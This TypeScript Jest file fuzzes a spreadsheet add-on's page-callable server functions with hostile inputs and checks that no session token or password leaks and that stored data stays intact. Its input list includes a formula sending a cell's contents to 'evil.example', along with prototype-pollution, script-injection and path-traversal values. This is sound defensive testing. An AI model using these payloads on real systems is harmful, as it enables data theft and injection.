import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Editor } from '../../src/stage/index.ts';
import {
  type Almanac,
  DAILY,
  FIRST_UPLOAD,
  openAlmanac,
  page,
  settleIn,
  uploadFirst,
} from '../addon/support/almanac.ts';
import { TAKES_EVERY_CASE } from '../support/every-case.ts';

/**
 * Any page the add-on serves may call these with anything. What comes back must be an answer in the
 * usual shape, no token may be in it, and what is kept must be as good afterwards as before.
 */
let almanac: Almanac;
let editor: Editor;
beforeAll(async () => {
  almanac = await openAlmanac();
  editor = await settleIn(almanac);
  await uploadFirst(editor);
  await page(editor, 'saveJob', DAILY);
});
afterAll(() => almanac?.close());

const DEEP = JSON.parse(`${'['.repeat(500)}${']'.repeat(500)}`);
const LONG = 'ж'.repeat(20_000);
const FOREIGN_KEYS = JSON.parse(
  '{"__proto__":{"admin":true},"constructor":{"prototype":{}},"toString":1,"length":-1}',
);
const SCRIPT = '<script>alert(1)</script>';

/** What stands where a number, a text, a list or an object should. */
const HOSTILE: unknown[] = [
  undefined,
  null,
  true,
  0,
  -1,
  1.5,
  1e308,
  2 ** 53,
  '',
  ' ',
  '0',
  '0 weather',
  '../../session',
  '__proto__',
  'constructor',
  SCRIPT,
  '=IMPORTDATA("https://evil.example/"&A1)',
  'a\u0000b\u202ec\ud800',
  LONG,
  [],
  [null],
  ['__proto__', 7],
  DEEP,
  {},
  FOREIGN_KEYS,
  { length: 1e9 },
  { valueOf: 'x', toString: 'x', toJSON: 'x' },
];

type Call = { name: string; good: unknown[]; fields: (string | number)[][] };

/** A call as the sidebar makes it, and the places in it that are replaced one after the other. */
const CALLS: Call[] = [
  { name: 'openingState', good: [], fields: [[0]] },
  { name: 'runHistory', good: [], fields: [[0]] },
  { name: 'readActiveSheet', good: [{}], fields: [[0], ...wishes(0)] },
  { name: 'rememberWishes', good: [0, {}], fields: [[0], [1], ...wishes(1)] },
  { name: 'checkSheets', good: [[0]], fields: [[0]] },
  {
    name: 'keepProposals',
    good: [[{ sheetId: 0, place: null, ticked: true, looked: [], fingerprint: 'f' }]],
    fields: [
      [0],
      [0, 0],
      [0, 0, 'sheetId'],
      [0, 0, 'place'],
      [0, 0, 'looked'],
      [0, 0, 'fingerprint'],
    ],
  },
  { name: 'sendSeveral', good: [[]], fields: [[0]] },
  { name: 'lookAtBatch', good: [], fields: [] },
  { name: 'compareUpload', good: [{ sheetId: 0, place: null }], fields: [[0], [0, 'place']] },
  { name: 'lookAtRecord', good: [{ sheetId: 0, place: null }], fields: [[0], [0, 'place']] },
  {
    name: 'changeRecord',
    good: [{ sheetId: 0, place: null, change: { title: 'Hill' }, etag: null }],
    fields: [[0], [0, 'sheetId'], [0, 'change'], [0, 'change', 'title'], [0, 'etag']],
  },
  {
    name: 'takeOverAll',
    good: [{ targets: [], offer: '', title: '', isPublic: null, sameKey: null, email: null }],
    fields: [[0], [0, 'targets'], [0, 'offer'], [0, 'title'], [0, 'isPublic'], [0, 'email']],
  },
  {
    name: 'sendUnasked',
    good: [{ sheetId: 0, place: null, unasked: true }],
    fields: [[0], [0, 'sheetId'], [0, 'place'], [0, 'unasked']],
  },
  {
    name: 'forgetConfirmed',
    good: [{ sheetId: 0, place: 'Garden' }],
    fields: [[0], [0, 'sheetId'], [0, 'place']],
  },
  {
    name: 'deleteJob',
    good: [{ sheetId: 99, place: 'Garden' }],
    fields: [[0], [0, 'sheetId'], [0, 'place']],
  },
  {
    name: 'writeAsNewSheet',
    good: [{ sheetId: 99, place: 'Garden' }],
    fields: [[0], [0, 'sheetId'], [0, 'place']],
  },
  {
    name: 'lookAtFiles',
    good: [{ sheetId: 0, place: null }],
    fields: [[0], [0, 'sheetId'], [0, 'place']],
  },
  {
    name: 'makeFiles',
    good: [
      {
        ...{ sheetId: 0, place: null, format: 'csv', as: 'download', from: 0, seen: null },
        station: {},
      },
    ],
    fields: [
      [0],
      ...['sheetId', 'place', 'format', 'as', 'from', 'seen', 'station'].map((key) => [0, key]),
      [0, 'station', 'latitude'],
    ],
  },
  { name: 'settleUnknown', good: ['x', 'arrived'], fields: [[0], [1]] },
  {
    name: 'lookAtCells',
    good: [[[{ sheet: 'Monthly', cells: ['B2'] }]]],
    fields: [[0], [0, 0], [0, 0, 0], [0, 0, 0, 'sheet'], [0, 0, 0, 'cells'], [0, 0, 0, 'cells', 0]],
  },
  {
    name: 'showCell',
    good: [{ sheet: 'Monthly', cell: 'A1' }],
    fields: [[0], [0, 'sheet'], [0, 'cell']],
  },
  {
    name: 'confirmFinding',
    good: [{ sheetId: 0, kind: 'quality.step', places: [{ sheet: 'Monthly', cells: ['B2'] }] }],
    fields: [
      [0],
      [0, 'sheetId'],
      [0, 'place'],
      [0, 'kind'],
      [0, 'places'],
      [0, 'places', 0],
      [0, 'places', 0, 'cells'],
    ],
  },
  {
    name: 'mendCells',
    good: [
      {
        sheetId: 0,
        mend: { how: 'x', sheet: 'Monthly', changes: [{ cell: 'B2', from: 7.2, to: 8 }] },
      },
    ],
    fields: [
      [0],
      [0, 'sheetId'],
      [0, 'place'],
      [0, 'mend'],
      [0, 'mend', 'sheet'],
      [0, 'mend', 'changes'],
      [0, 'mend', 'changes', 0, 'cell'],
      [0, 'mend', 'changes', 0, 'to'],
    ],
  },
  {
    name: 'pauseJob',
    good: [{ sheetId: 99, paused: true }],
    fields: [[0], [0, 'sheetId'], [0, 'paused']],
  },
  {
    name: 'saveJob',
    good: [DAILY],
    fields: [
      [0],
      ...['sheetId', 'rhythm', 'title', 'description', 'isPublic', 'email'].map((key) => [0, key]),
      [0, 'also'],
      ...['every', 'hour', 'weekday', 'day'].map((key) => [0, 'rhythm', key]),
    ],
  },
  {
    name: 'saveFileJob',
    good: [
      {
        ...{ sheetId: 0, place: null, formats: ['climat'], as: 'mail', rhythm: DAILY.rhythm },
        ...{ email: 'ada@example.org', station: null, also: [] },
      },
    ],
    fields: [
      [0],
      ...['sheetId', 'formats', 'as', 'rhythm', 'email', 'station', 'also'].map((key) => [0, key]),
      [0, 'also', 0],
    ],
  },
  {
    name: 'takeOverJob',
    good: [DAILY],
    fields: [[0], [0, 'sheetId'], [0, 'rhythm'], [0, 'title'], [0, 'email']],
  },
  {
    name: 'uploadSheet',
    good: [{ ...FIRST_UPLOAD, sheetId: 99 }],
    fields: [
      [0],
      ...['sheetId', 'title', 'description', 'isPublic', 'fingerprint', 'confirmed'].map((key) => [
        0,
        key,
      ]),
    ],
  },
  {
    name: 'connect',
    good: [{ way: 'paste', text: 'x', address: '', key: '' }],
    fields: [[0], ...['way', 'text', 'address', 'key'].map((key) => [0, key])],
  },
  {
    name: 'connect',
    good: [{ way: 'password', email: '', password: '', address: '', key: '' }],
    fields: [...['email', 'password', 'address', 'key'].map((key) => [0, key])],
  },
  { name: 'disconnect', good: [{ removeSchedules: false }], fields: [] },
];

function wishes(at: number): (string | number)[][] {
  const names = [
    'station',
    'element',
    'temperatureUnit',
    'rainUnit',
    'years',
    'dayMonthOrder',
    'missingDays',
    'blankRainDay',
    'rainMarks',
    'impossible',
    'twice',
    'sheets',
    'roles',
  ];
  return names.map((name) => [at, name]);
}

function replaced(value: unknown, [at, ...rest]: (string | number)[], by: unknown): unknown {
  if (at === undefined) return by;
  if (Array.isArray(value))
    return Object.assign([...value], { [at]: replaced(value[Number(at)], rest, by) });
  return {
    ...(value as object),
    [at]: replaced((value as Record<string, unknown>)?.[at], rest, by),
  };
}

it('every function a page may call is called here', () => {
  const page = readFileSync('src/sidebar/server/page-functions.ts', 'utf8');
  const named = [...page.matchAll(/^ {2}\| '(\w+)'$/gm)].map(([, name]) => name);
  // These take nothing.
  const called = [
    'testConnection',
    'repairSchedule',
    'removeDamaged',
    ...CALLS.map(({ name }) => name),
  ];
  expect(named.filter((name = '') => !called.includes(name))).toEqual([]);
  expect(named.length).toBeGreaterThan(15);
});

describe('a page that calls with anything', () => {
  it.each(CALLS)(
    'is answered by $name, whatever stands where, and spoils nothing',
    async (call) => {
      const before = await kept();
      const odd: unknown[] = [];
      for (const [place, hostile] of placesOf(call)) {
        const args = replaced(call.good, place, hostile) as unknown[];
        const reply = await editor
          .callFromPage(call.name, ...args)
          .catch((error: Error) => String(error));
        const { ok, problem } = (reply ?? {}) as { ok?: boolean; problem?: { kind: string } };
        if (typeof ok !== 'boolean' || (!ok && !problem?.kind))
          odd.push([place.join('.'), JSON.stringify(hostile)?.slice(0, 60), reply]);
        for (const secret of secrets(before)) expect(JSON.stringify(reply)).not.toContain(secret);
      }
      expect(odd).toEqual([]);
      const after = await kept();
      const names = [...Object.keys(after.document), ...Object.keys(after.user)];
      expect(names.filter((name) => !KEPT.test(name))).toEqual([]);
      expect(after.user.session).toBe(before.user.session);
      expect(await page(editor, 'openingState')).toMatchObject({
        connection: { state: 'connected' },
      });
      expect(await page(editor, 'readActiveSheet', null)).toMatchObject({ counts: { years: 3 } });
    },
  );
});

function placesOf({ fields }: Call): [(string | number)[], unknown][] {
  return fields.flatMap((place, turn) =>
    HOSTILE.filter((_, index) => index % SHARE === turn % SHARE).map(
      (hostile): [(string | number)[], unknown] => [place, hostile],
    ),
  );
}

/** Each place meets some of them, and the next place those after: all at once take a minute. */
const SHARE = TAKES_EVERY_CASE ? 9 : 18;

/** The names under which something is kept: of this document, its one tab or a place of it, and this person. */
const KEPT =
  /^(session|tag|(runs|upload) weather 0( .+)?|(schedule|ticked) weather|(wishes|proposal) 0( .+)?|(whole|right|job) 0|tick .+)$/;

async function kept() {
  return {
    user: await almanac.stage.properties('user'),
    document: await almanac.stage.properties('document'),
  };
}

function secrets({ user }: Awaited<ReturnType<typeof kept>>): string[] {
  const { access, refresh } = JSON.parse(user.session ?? '{}') as Record<string, string>;
  return [access, refresh, almanac.ada.password].filter((one) => one !== undefined);
}
